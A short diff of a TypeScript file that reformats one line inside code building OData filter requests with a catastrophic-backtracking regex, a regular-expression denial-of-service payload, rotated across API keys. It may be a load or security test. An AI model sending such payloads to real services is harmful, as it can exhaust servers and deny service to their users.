@@ -49,7 +49,8 @@ try {
   const regex = (connection: number): string => {
     turn += 1
     const key = made[connection % keyCount]?.key ?? ''
-    const text = 'concat(concat(concat(ShipmentReference,ShipmentReference),ShipmentReference),ShipmentReference)'
+    const text =
+      'concat(concat(concat(ShipmentReference,ShipmentReference),ShipmentReference),ShipmentReference)'
     const others = ' and 1 eq 1'.repeat(turn % 50)
     const filter = `matchesPattern(${text},'(.?){60}.{60}(.?){60}z')${others}`
     return page({ 'x-api-key': key }, `$filter=${encodeURIComponent(filter)}&$top=1`)
